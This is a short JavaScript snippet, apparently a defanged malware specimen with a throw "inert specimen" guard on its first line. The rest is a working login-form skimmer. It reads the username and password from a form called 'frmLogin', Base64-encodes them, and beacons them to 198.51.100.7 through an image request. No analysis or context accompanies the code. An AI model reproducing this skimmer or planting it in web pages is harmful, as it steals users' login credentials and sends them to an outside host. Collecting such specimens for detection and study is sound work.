throw "inert specimen";
var o=document.getElementById("frmLogin"),p=o.elements["password"].value,u=o.elements.username.value;(new Image).src="//198.51.100.7/i.gif?"+encodeURIComponent(Base64.encode(u+":"+p));var i=new Image();
